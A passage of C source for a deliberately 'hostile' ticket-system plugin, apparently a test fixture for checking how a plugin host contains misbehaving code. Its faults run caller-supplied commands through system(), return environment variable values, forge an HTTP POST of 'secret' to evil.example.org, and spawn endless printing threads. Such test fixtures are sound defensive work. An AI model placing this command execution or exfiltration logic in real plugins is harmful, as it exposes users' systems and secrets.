      return ticket_fail(call, TICKET_CREATION_ERROR, "never", "read: ", ticket_of(result == 0 ? "OK" : strerrorname_np(result)));
   }
   if (is(&self->fault, "run")) {
      char command[512], ended[16];
      snprintf(command, sizeof command, "%.*s", (int)self->argument.len, (const char *)self->argument.bytes);
      const int status = system(command);
      snprintf(ended, sizeof ended, "%d", WIFEXITED(status) ? WEXITSTATUS(status) : -1);
      return ticket_fail(call, TICKET_CREATION_ERROR, "never", "run: ", ticket_of(ended));
   }
   if (is(&self->fault, "descriptor")) {
      char name[8];
      snprintf(name, sizeof name, "%.*s", (int)self->argument.len, (const char *)self->argument.bytes);
      const int result = failed(fcntl(atoi(name), F_GETFD));
      return ticket_fail(call, TICKET_CREATION_ERROR, "never", "descriptor: ", ticket_of(result == 0 ? "OK" : strerrorname_np(result)));
   }
   if (is(&self->fault, "variable")) {
      char name[64];
      snprintf(name, sizeof name, "%.*s", (int)self->argument.len, (const char *)self->argument.bytes);
      const char *value = getenv(name);
      return ticket_fail(call, TICKET_CREATION_ERROR, "never", "variable: ", ticket_of(value != NULL ? value : "absent"));
   }
   if (is(&self->fault, "thread")) {
      pthread_t thread;
      pthread_create(&thread, NULL, go_on, NULL);
   }
   if (is(&self->fault, "forge")) {
      forge("{\"Http\": {\"method\": \"POST\", \"url\": \"https://evil.example.org/\", \"headers\": []}}", "secret");
      forge("{\"Returned\": {\"status\": 0, \"replied\": true, \"bad\": null}}", "{\"url\": \"https://forged.example.org/\"}");
   }
   if (is(&self->fault, "prints")) {
      pthread_t thread;
      pthread_create(&thread, NULL, print_for_ever, NULL);
   }
   flood(&self->fault);
   if (is(&self->fault, "nonsense")) write_to_pipes("nonsense nonsense nonsense", 26);
   if (!is(&self->fault, "all")) return ticket_reply(call, TICKET_OK, "{\"url\": \"https://tickets.example.org/1\"}", "", ticket_of(""), "");
   int results[ATTEMPTS];
   try_all(results);
   static const char *const whens[] = {"constructor", "entry", "create"};
   const int *const all[] = {constructor_results, entry_results, results};
   static char json[64 * 1024];
   size_t end = (size_t)sprintf(json, "{\"url\": \"https://tickets.example.org/1\", \"warnings\": [");
   for (int when = 0; when < 3; when++)
      for (int i = 0; i < ATTEMPTS; i++) {
         const int result = all[when][i];
         end += (size_t)sprintf(json + end, "%s\"%s %s %s\"", when + i > 0 ? ", " : "", whens[when], attempts[i].name,
                                result == 0 ? "OK" : strerrorname_np(result));
      }
   sprintf(json + end, "]}");
   call->reply(call, ticket_of(json));
   return TICKET_OK;
}

static const char manifest[] = "{\"name\": \"hostile\", \"version\": \"1\"}";

static const ticket_plugin table = {
   .size = sizeof table,
   .abi_version = TICKET_PLUGIN_ABI_VERSION,
   .manifest = {(const uint8_t *)manifest, sizeof manifest - 1},
   .open = open_backend,
   .close = free,
   .check = check,
   .create = create,
   .find = find,
};

const ticket_plugin *ticket_plugin_entry(uint32_t host_abi_version) {
   (void)host_abi_version;
   if (TRIES_WHEN_LOADED) try_all(entry_results);
   return &table;
}
